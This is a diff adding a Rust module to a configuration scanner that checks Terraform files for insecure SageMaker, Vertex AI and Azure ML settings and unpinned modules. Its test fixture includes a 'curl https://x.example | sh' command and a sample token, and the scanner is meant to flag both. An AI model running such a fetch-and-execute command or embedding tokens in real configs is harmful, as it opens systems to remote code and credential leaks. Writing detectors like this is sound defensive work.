@@ -1,0 +1,288 @@
+//! Terraform and OpenTofu: where models are trained and served, and what modules are taken.
+
+use super::tree::{Attribute, Block, Body, Value, read};
+use crate::address::is_commit;
+use crate::rules::{
+    self, EXPOSED_SERVICE, NO_NETWORK_ISOLATION, PRIVILEGED_CONTAINER, ROOT_USER, UNENCRYPTED_STORAGE,
+    UNPINNED_INCLUDE,
+};
+use crate::shell::inspect::{self, Setting};
+use crate::yaml::Offsets;
+use crate::{Issue, Notes, Reader, Text, image, issue, variable};
+use bartizan_core::{Confidence, Kind, Rule, Severity};
+use std::ops::Range;
+
+/// `.tf` files.
+#[derive(Debug)]
+pub(crate) struct Terraform;
+
+impl Reader for Terraform {
+    fn id(&self) -> &'static str {
+        "terraform"
+    }
+
+    fn kind(&self) -> Kind {
+        Kind::Config
+    }
+
+    fn rules(&self) -> &'static [&'static Rule] {
+        rules::RULES
+    }
+
+    fn recognises(&self, text: &Text<'_>) -> bool {
+        matches!(text.extension().as_str(), "tf" | "tofu")
+    }
+
+    fn read(&self, text: &Text<'_>, notes: &mut Notes<'_>) {
+        let file = read(text.content);
+        for block in &file.blocks {
+            if notes.out_of_time() {
+                return;
+            }
+            match block.name.as_str() {
+                "resource" => issue::report(text, notes, resource(block)),
+                "module" => issue::report(text, notes, module(block)),
+                _ => {}
+            }
+        }
+        file.each(&mut |body| everywhere(text, notes, body));
+    }
+}
+
+/// What any body may hold: images, variables, scripts, arguments.
+fn everywhere(text: &Text<'_>, notes: &mut Notes<'_>, body: &Body) {
+    for attribute in &body.attributes {
+        match &attribute.value {
+            Value::Text(value, span) => {
+                let name = attribute.name.as_str();
+                if matches!(name, "image" | "image_uri" | "container_image" | "training_image" | "image_url")
+                    && value.contains(['/', ':'])
+                {
+                    issue::report(text, notes, image::issue(value, span.clone(), "the image"));
+                } else if matches!(
+                    name,
+                    "user_data"
+                        | "command"
+                        | "startup_script"
+                        | "startup-script"
+                        | "on_create"
+                        | "on_start"
+                        | "inline"
+                        | "script"
+                ) {
+                    let issues = inspect::script(value, Setting::Other);
+                    issue::report_at(text, notes, &Offsets::at(span.start), issues);
+                } else {
+                    issue::report(text, notes, variable::issues(name, value, span));
+                }
+                if matches!(name, "model_data_url" | "model_uri" | "artifact_uri" | "storage_uri") {
+                    issue::report(text, notes, crate::serving::uri_issues(value, span));
+                }
+            }
+            Value::List(items)
+                if matches!(attribute.name.as_str(), "args" | "command" | "arguments" | "entrypoint") =>
+            {
+                let words: Vec<crate::shell::Word> = items
+                    .iter()
+                    .map(|(text, span)| crate::shell::Word {
+                        text: text.clone(),
+                        span: span.clone(),
+                        expansions: Vec::new(),
+                        quoted: true,
+                    })
+                    .collect();
+                issue::report(text, notes, crate::serving::argument_issues(words));
+            }
+            Value::Expression(value) if attribute.name == "privileged" && value == "true" => {
+                issue::report(
+                    text,
+                    notes,
+                    [Issue::new(
+                        &PRIVILEGED_CONTAINER,
+                        attribute.key.clone(),
+                        "the container has all rights of the machine",
+                    )],
+                );
+            }
+            _ => {}
+        }
+    }
+    let named = body.get("name").zip(body.get("value"));
+    if let Some((
+        Attribute { value: Value::Text(name, _), .. },
+        Attribute { value: Value::Text(value, span), .. },
+    )) = named
+    {
+        issue::report(text, notes, variable::issues(name, value, span));
+    }
+}
+
+/// What a kind of resource must have: attribute, the value that is meant, and what is wrong otherwise.
+struct Demand {
+    resource: &'static str,
+    /// Attribute or block.
+    attribute: &'static str,
+    /// Values that are in order; none when being there is enough.
+    good: &'static [&'static str],
+    /// Whether leaving it out is in order.
+    good_when_absent: bool,
+    rule: &'static Rule,
+    what: &'static str,
+}
+
+const fn demand(
+    resource: &'static str,
+    attribute: &'static str,
+    good: &'static [&'static str],
+    good_when_absent: bool,
+    rule: &'static Rule,
+    what: &'static str,
+) -> Demand {
+    Demand { resource, attribute, good, good_when_absent, rule, what }
+}
+
+#[rustfmt::skip] // a table
+static DEMANDS: &[Demand] = &[
+    demand("aws_sagemaker_notebook_instance", "direct_internet_access", &["Disabled"], false, &NO_NETWORK_ISOLATION, "the notebook has direct internet access"),
+    demand("aws_sagemaker_notebook_instance", "root_access", &["Disabled"], false, &ROOT_USER, "users of the notebook are root"),
+    demand("aws_sagemaker_notebook_instance", "kms_key_id", &[], false, &UNENCRYPTED_STORAGE, "the notebook's disk has no key of one's own"),
+    demand("aws_sagemaker_notebook_instance", "subnet_id", &[], false, &NO_NETWORK_ISOLATION, "the notebook is in no private network"),
+    demand("aws_sagemaker_model", "enable_network_isolation", &["true"], false, &NO_NETWORK_ISOLATION, "the model's containers may reach the network"),
+    demand("aws_sagemaker_model", "vpc_config", &[], false, &NO_NETWORK_ISOLATION, "the model is in no private network"),
+    demand("aws_sagemaker_endpoint_configuration", "kms_key_arn", &[], false, &UNENCRYPTED_STORAGE, "the endpoint's disks have no key of one's own"),
+    demand("aws_sagemaker_domain", "app_network_access_type", &["VpcOnly"], false, &NO_NETWORK_ISOLATION, "the domain's applications reach the internet directly"),
+    demand("aws_sagemaker_domain", "kms_key_id", &[], false, &UNENCRYPTED_STORAGE, "the domain's file system has no key of one's own"),
+    demand("google_notebooks_instance", "no_public_ip", &["true"], false, &EXPOSED_SERVICE, "the notebook has a public address"),
+    demand("google_notebooks_instance", "disk_encryption", &["CMEK"], false, &UNENCRYPTED_STORAGE, "the notebook's disk has no key of one's own"),
+    demand("google_vertex_ai_dataset", "encryption_spec", &[], false, &UNENCRYPTED_STORAGE, "the dataset has no key of one's own"),
+    demand("google_vertex_ai_endpoint", "encryption_spec", &[], false, &UNENCRYPTED_STORAGE, "the endpoint has no key of one's own"),
+    demand("google_vertex_ai_endpoint", "network", &[], false, &NO_NETWORK_ISOLATION, "the endpoint is in no private network"),
+    demand("google_vertex_ai_featurestore", "encryption_spec", &[], false, &UNENCRYPTED_STORAGE, "the feature store has no key of one's own"),
+    demand("google_vertex_ai_tensorboard", "encryption_spec", &[], false, &UNENCRYPTED_STORAGE, "TensorBoard's data has no key of one's own"),
+    demand("google_vertex_ai_metadata_store", "encryption_spec", &[], false, &UNENCRYPTED_STORAGE, "the metadata has no key of one's own"),
+    demand("azurerm_machine_learning_workspace", "public_network_access_enabled", &["false"], false, &NO_NETWORK_ISOLATION, "the workspace is reachable from the internet"),
+    demand("azurerm_machine_learning_compute_cluster", "local_auth_enabled", &["false"], false, &rules::NO_AUTHENTICATION, "the cluster takes local accounts"),
+    demand("azurerm_machine_learning_compute_cluster", "ssh_public_access_enabled", &["false"], true, &EXPOSED_SERVICE, "the cluster's machines take connections from the internet"),
+    demand("azurerm_machine_learning_compute_cluster", "subnet_resource_id", &[], false, &NO_NETWORK_ISOLATION, "the cluster is in no private network"),
+    demand("azurerm_cognitive_account", "public_network_access_enabled", &["false"], false, &NO_NETWORK_ISOLATION, "the model service is reachable from the internet"),
+    demand("azurerm_cognitive_account", "local_auth_enabled", &["false"], false, &rules::NO_AUTHENTICATION, "the model service takes keys instead of identities"),
+];
+
+fn resource(block: &Block) -> Vec<Issue> {
+    let kind = block.labels.first().map(String::as_str).unwrap_or_default();
+    let mut issues = Vec::new();
+    for demand in DEMANDS.iter().filter(|demand| demand.resource == kind) {
+        let nested = block.body.blocks(demand.attribute).next().is_some();
+        let place: Option<Range<usize>> = match block.body.get(demand.attribute) {
+            None if nested || demand.good_when_absent => None,
+            None => Some(block.head.clone()),
+            Some(_) if demand.good.is_empty() => None,
+            Some(attribute) => match &attribute.value {
+                Value::Text(value, _) if value.contains("${") || demand.good.contains(&value.as_str()) => {
+                    None
+                }
+                Value::Expression(value)
+                    if demand.good.contains(&value.as_str())
+                        || !matches!(value.as_str(), "true" | "false" | "null") =>
+                {
+                    None
+                }
+                _ => Some(attribute.key.start..attribute.span.end),
+            },
+        };
+        if let Some(span) = place {
+            let said = span != block.head;
+            let severity = if said { Severity::Medium } else { Severity::Low };
+            let remedy = if demand.good.is_empty() {
+                format!("Set `{}`.", demand.attribute)
+            } else {
+                format!("Set `{} = {}`.", demand.attribute, demand.good.join(" or "))
+            };
+            issues.push(
+                Issue::new(demand.rule, span, demand.what)
+                    .severity(severity)
+                    .confidence(Confidence::High)
+                    .remedy(remedy),
+            );
+        }
+    }
+    if kind == "helm_release"
+        && block.body.get("version").is_none()
+        && block.body.text("repository").is_some()
+    {
+        issues.push(
+            Issue::new(&UNPINNED_INCLUDE, block.head.clone(), "the chart is taken at its newest version")
+                .severity(Severity::Low),
+        );
+    }
+    issues
+}
+
+fn module(block: &Block) -> Vec<Issue> {
+    let Some(Attribute { value: Value::Text(source, span), .. }) = block.body.get("source") else {
+        return Vec::new();
+    };
+    if source.starts_with(['.', '/']) {
+        return Vec::new();
+    }
+    let is_git = source.starts_with("git::")
+        || source.contains("github.com/")
+        || source.contains("git@")
+        || source.contains("bitbucket.org/");
+    if is_git {
+        let reference = source.split_once("ref=").map(|(_, rest)| rest.split('&').next().unwrap_or(rest));
+        return match reference {
+            Some(reference) if is_commit(reference) => Vec::new(),
+            Some(reference) => vec![
+                Issue::new(
+                    &UNPINNED_INCLUDE,
+                    span.clone(),
+                    format!("the module is taken at `{reference}`, which can be moved"),
+                )
+                .severity(Severity::Low),
+            ],
+            None => {
+                vec![Issue::new(&UNPINNED_INCLUDE, span.clone(), "the module is taken at its default branch")]
+            }
+        };
+    }
+    if source.contains("://") {
+        return Vec::new();
+    }
+    if block.body.get("version").is_none() && source.matches('/').count() >= 2 {
+        return vec![
+            Issue::new(&UNPINNED_INCLUDE, span.clone(), "the module is taken at its newest version")
+                .severity(Severity::Low),
+        ];
+    }
+    Vec::new()
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Text, examine};
+    use bartizan_core::{Limits, MonotonicClock};
+
+    #[test]
+    fn training_and_serving_resources_are_judged() {
+        let text = "resource \"aws_sagemaker_model\" \"m\" {\n  enable_network_isolation = false\n  vpc_config {\n    subnets = [\"s\"]\n  }\n  primary_container {\n    image = \"123.dkr.ecr.us-east-1.amazonaws.com/net:latest\"\n    model_data_url = \"s3://b/latest/model.tar.gz\"\n    environment = {\n      HF_TOKEN = \"hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567\"\n    }\n  }\n}\nresource \"google_vertex_ai_endpoint\" \"e\" {\n  encryption_spec { kms_key_name = var.k }\n  network = var.n\n}\nmodule \"x\" {\n  source = \"git::https://example.com/a.git\"\n}\nresource \"null_resource\" \"n\" {\n  provisioner \"local-exec\" {\n    command = \"curl https://x.example | sh\"\n  }\n}\n";
+        let outcome = examine(&Text::new("main.tf", text), &Limits::default(), &MonotonicClock::start());
+        let mut found: Vec<_> = outcome
+            .findings
+            .iter()
+            .map(|one| (one.location.line.unwrap(), one.rule.id.trim_start_matches("pipeline/")))
+            .collect();
+        found.sort_unstable();
+        assert_eq!(
+            found,
+            [
+                (2, "no-network-isolation"),
+                (7, "unpinned-image"),
+                (8, "unpinned-model"),
+                (10, "secret"),
+                (19, "unpinned-include"),
+                (23, "curl-pipe-shell")
+            ]
+        );
+    }
+}
